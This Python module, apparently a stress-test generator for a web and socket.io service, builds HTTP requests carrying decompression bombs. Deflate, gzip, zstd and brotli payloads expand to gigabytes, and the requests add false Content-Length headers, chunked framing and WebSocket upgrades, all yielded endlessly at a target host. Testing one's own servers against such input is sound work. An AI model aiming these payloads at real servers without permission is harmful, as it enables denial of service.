"""Requests with bodies that are expensive to read: every encoding, framing, method and path, in an order that mixes them."""

from __future__ import annotations

import random
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from itertools import cycle, product

METHODS = ("GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS")
PATHS = (
    "/",
    "/api/v1/devices",
    "/nowhere",
    "/socket.io/?EIO=4&transport=polling",
    "/socket.io/?EIO=4&transport=websocket",
    "/ws",
    "/ws/device",
    "/auth/login",
    "/api/v1/readings",
    "/api/ingest",
)
FRAMINGS = ("length", "chunked", "short", "long")
"""The Content-Length is right, absent, half of the body, twice the body."""

_MEGABYTE, _MEGABYTES = 1 << 20, 1024
_CHUNK_BYTES = 65_536
_BROTLI_64_MEGABYTES = bytes.fromhex(
    "cbffff3f002400e2b14072effff8ffff078004401c1680eefd1fffffff00900088c302d0bdffe3ffff1f001200715800baf77f"
    "fcffff034002200e0b40f7fe8fffff7f004800c46101e8defff1ffff0f000980382c00ddfbbffcffff032001108705a07bff07"
)


@dataclass(frozen=True, slots=True)
class HostileRequest:
    encoding: str
    head: bytes
    body: bytes


def deflate_bomb(window_bits: int) -> bytes:
    """Return 1 GB of zeros in 1 MB, of equal blocks: zlib, gzip or raw by the window bits."""
    block = zlib.compressobj(9, zlib.DEFLATED, -15)
    zeros = block.compress(b"\0" * _MEGABYTE) + block.flush(zlib.Z_FULL_FLUSH)
    header = zlib.compressobj(9, zlib.DEFLATED, window_bits).flush(zlib.Z_SYNC_FLUSH) if window_bits > 0 else b""
    return header + zeros * _MEGABYTES


def zstd_bomb() -> bytes:
    """Return 1 GB of zeros as a zstd frame (RFC 8878) of run-length blocks of 128 KB."""
    header = b"\x28\xb5\x2f\xfd" + b"\x00" + b"\x38"  # no content size; a window of 128 KB
    block = ((131_072 << 3) | (1 << 1)).to_bytes(3, "little") + b"\0"
    return header + block * (_MEGABYTES * 8)


def bodies() -> dict[str, bytes]:
    """Return a body for each Content-Encoding; the empty one is not compressed."""
    gzip = deflate_bomb(31)
    return {
        "deflate": deflate_bomb(15),
        "Deflate": deflate_bomb(-15),
        "gzip": gzip,
        "x-gzip": gzip,
        "gzip, gzip": zlib.compress(gzip, 1),
        "br": _BROTLI_64_MEGABYTES,
        "zstd": zstd_bomb(),
        "": b"\0" * _MEGABYTE,
        "identity": b"[" * _MEGABYTE,
    }


def hostile_requests(host: str) -> Iterator[HostileRequest]:
    """Yield every combination, again and again."""
    every = [*product(bodies().items(), METHODS, PATHS, FRAMINGS)]
    random.Random(1).shuffle(every)
    for (encoding, body), method, path, framing in cycle(every):
        lines = [f"{method} {path} HTTP/1.1", f"Host: {host}", "Content-Type: application/json", "Connection: close"]
        if path.endswith(("/ws", "/device", "=websocket")):
            lines += ["Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13"]
            lines += ["Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="]
        lines += [f"Content-Encoding: {encoding}"] * bool(encoding)
        lines += ["Transfer-Encoding: chunked" if framing == "chunked" else f"Content-Length: {_length(body, framing)}"]
        head = "\r\n".join([*lines, "", ""]).encode()
        yield HostileRequest(encoding, head, chunked(body) if framing == "chunked" else body)


def _length(body: bytes, framing: str) -> int:
    return {"length": len(body), "short": len(body) // 2, "long": len(body) * 2}[framing]


def chunked(body: bytes) -> bytes:
    parts = (body[start : start + _CHUNK_BYTES] for start in range(0, len(body), _CHUNK_BYTES))
    return b"".join(b"%x\r\n%b\r\n" % (len(part), part) for part in parts) + b"0\r\n\r\n"
